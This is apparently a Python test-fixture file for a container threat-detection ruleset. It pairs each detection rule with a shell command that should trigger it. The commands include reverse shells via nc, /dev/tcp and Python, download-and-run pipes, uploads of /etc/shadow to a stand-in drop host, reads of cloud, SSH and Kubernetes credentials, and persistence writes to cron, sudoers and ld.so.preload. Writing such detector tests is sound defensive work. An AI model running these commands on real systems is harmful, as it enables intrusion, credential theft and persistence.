"""For each shipped rule a command that it is about, and commands of ordinary work that no rule may shout at.

What busybox can do is done by busybox; what it has not (a miner, a web server, systemctl) is stood in for by a program
under that name that does nothing, or (a server) runs what it is told to.
"""

STAND_INS = (
    *("/usr/bin/curl", "/usr/bin/ssh", "/usr/bin/python3", "/usr/bin/gcc", "/usr/bin/nmap", "/usr/bin/hydra"),
    *("/usr/bin/apt-get", "/usr/bin/systemctl", "/usr/sbin/iptables", "/usr/local/bin/kubectl"),
    *("/usr/local/bin/xmrig", "/usr/local/bin/chisel"),
)
SERVERS = ("/usr/sbin/nginx", "/usr/sbin/mysqld", "/usr/bin/java")

IN_A_CONTAINER = {
    "authorized_keys_written": "mkdir -p /root/.ssh; echo key >> /root/.ssh/authorized_keys",
    "boot_script_written": "echo 'id' > /etc/rc.local",
    "browser_credentials_read": "cd /root; mkdir -p .mozilla/p; echo > .mozilla/p/logins.json; cat .mozilla/p/logins.json",
    "cloud_credentials_read": "mkdir /root/.aws; echo > /root/.aws/credentials; cat /root/.aws/credentials",
    "cloud_metadata_requested": "wget -qO - http://169.254.169.254/latest/",
    "compiler_in_container": "gcc -o /tmp/tool /tmp/tool.c",
    "container_client_in_container": "kubectl get pods",
    "container_escape_file_written": "mkdir /tmp/group; echo /payload > /tmp/group/release_agent",
    "credential_sweep": (
        "mkdir /root/.aws /root/.ssh; echo > /root/.aws/credentials; echo > /root/.ssh/id_rsa;"
        " cat /etc/shadow; cat /root/.aws/credentials; cat /root/.ssh/id_rsa"
    ),
    "cron_file_written": "mkdir /etc/cron.d; echo '* * * * * root id' > /etc/cron.d/job",
    "cryptocurrency_miner_run": "xmrig -o pool.example:3333",
    "decoded_text_run_by_shell": "sh -c 'echo aWQ= | base64 -d | sh'",
    "deleted_program_run": "/opt/runner deleted /bin/busybox true",
    "discovery_burst": "whoami; ps; netstat; route; lsmod; cat /etc/passwd",
    "download_piped_to_interpreter": "sh -c 'wget -qO- http://127.0.0.1:1/ | sh'",
    "download_then_run": "wget -O /tmp/tool http://127.0.0.1:1/tool; cp /opt/stand_in /tmp/tool; /tmp/tool",
    "download_to_temporary_folder": "wget -O /tmp/tool http://127.0.0.1:1/tool",
    "file_uploaded_by_command_line": "curl -T /etc/hosts https://drop.example/",
    "hidden_program_run": "mkdir /tmp/.x; cp /opt/stand_in /tmp/.x/tool; /tmp/.x/tool",
    "host_disk_mounted_in_container": "mount /dev/sda1 /mnt",
    "host_namespace_entered_from_container": "nsenter -t 1 -m true",
    "host_protection_disabled": "iptables -F",
    "inline_script_decodes_code": """python3 -c 'import base64; exec(base64.b64decode("aWQ="))'""",
    "interactive_shell_in_container": "/opt/terminal sh",
    "kernel_thread_name_forged": "/opt/runner proc-fd /opt/stand_in '[kworker/0:1]'",
    "kubernetes_token_read": (
        "cd /run; mkdir -p secrets/kubernetes.io/serviceaccount; echo > secrets/kubernetes.io/serviceaccount/token;"
        " cat secrets/kubernetes.io/serviceaccount/token"
    ),
    "loader_preload_written": "echo /tmp/evil.so > /etc/ld.so.preload",
    "log_erased": "rm -f /var/log/auth.log",
    "module_autoload_written": "echo evil > /etc/modules",
    "new_program_in_container": "cp /opt/stand_in /usr/local/bin/new; new",
    "package_manager_hook_written": "mkdir -p /etc/apt/apt.conf.d; echo > /etc/apt/apt.conf.d/99hook",
    "package_manager_in_container": "apt-get install -y nmap",
    "pam_configuration_written": "mkdir /etc/pam.d; echo > /etc/pam.d/sshd",
    "password_guessing_tool_run": "hydra -l root ssh://10.0.0.1",
    "persistence_after_server_shell": "nginx sh -c 'mkdir -p /etc/cron.d; echo > /etc/cron.d/job'",
    "port_scanner_run": "nmap -sS 10.0.0.0/8",
    "process_environment_read": "cat /proc/1/environ",
    "program_run_by_dynamic_loader": "/lib64/ld-linux-x86-64.so.2 /opt/dynamic",
    "program_run_from_memory": "/opt/runner memfd /bin/busybox true",
    "program_run_from_shared_memory": "cp /opt/stand_in /dev/shm/tool; /dev/shm/tool",
    "program_run_from_temporary_folder": "cp /opt/stand_in /tmp/tool; /tmp/tool",
    "remote_client_in_container": "ssh root@10.0.0.1",
    "reverse_shell_by_network_tool": "nc 127.0.0.1 1 -e /bin/sh",
    "reverse_shell_by_script_interpreter": "python3 -c 'import socket,os,pty; os.dup2(0,1); pty.spawn(\"/bin/sh\")'",
    "reverse_shell_by_shell_socket": "sh -c 'sh -i > /dev/tcp/127.0.0.1/1 2>&1 0<&1'",
    "runtime_socket_used_by_command_line": "curl --unix-socket /var/run/docker.sock http://localhost/containers/json",
    "security_service_stopped": "systemctl stop auditd",
    "sensitive_file_uploaded": "curl -F file=@/etc/shadow https://drop.example/",
    "sensitive_folders_archived": "tar -cf /tmp/etc.tar /etc",
    "setuid_bit_set": "cp /opt/stand_in /usr/bin/helper; chmod u+s /usr/bin/helper",
    "setuid_files_searched": "find / -maxdepth 1 -perm -4000",
    "shadow_file_read": "cat /etc/shadow",
    "shell_from_database_server": "mysqld sh -c id",
    "shell_from_java_program": "java sh -c id",
    "shell_from_web_server": "nginx sh -c id",
    "shell_history_disabled": "sh -c 'unset HISTFILE; id'",
    "shell_history_read": "echo secret > /root/.bash_history; cat /root/.bash_history",
    "shell_profile_written": "echo 'id' >> /root/.profile",
    "ssh_private_key_read": "mkdir /root/.ssh; echo key > /root/.ssh/id_rsa; cat /root/.ssh/id_rsa",
    "startup_file_written": "mkdir -p /etc/profile.d; echo id > /etc/profile.d/evil.sh",
    "sudo_or_su_by_service_account": "echo 'www:x:33:33::/:/bin/sh' >> /etc/passwd; su www -c 'su root'",
    "sudoers_written": "echo 'www ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers",
    "system_file_time_changed": "touch -d '2020-01-01 00:00' /etc/passwd",
    "systemd_unit_written": "mkdir -p /etc/systemd/system; echo > /etc/systemd/system/evil.service",
    "tunnelling_tool_run": "chisel client 10.0.0.1:80 R:socks",
    "udev_rule_written": "mkdir -p /etc/udev/rules.d; echo > /etc/udev/rules.d/99-evil.rules",
    "user_namespace_made_in_container": "unshare -U true",
}
"""Rule to what a shell in a fresh container does."""

ON_THE_HOST = {
    "kernel_protection_setting_written": ": >> /proc/sys/kernel/sysrq",
}
"""What a container's read-only ``/proc/sys`` does not allow: opened for writing, nothing is written."""
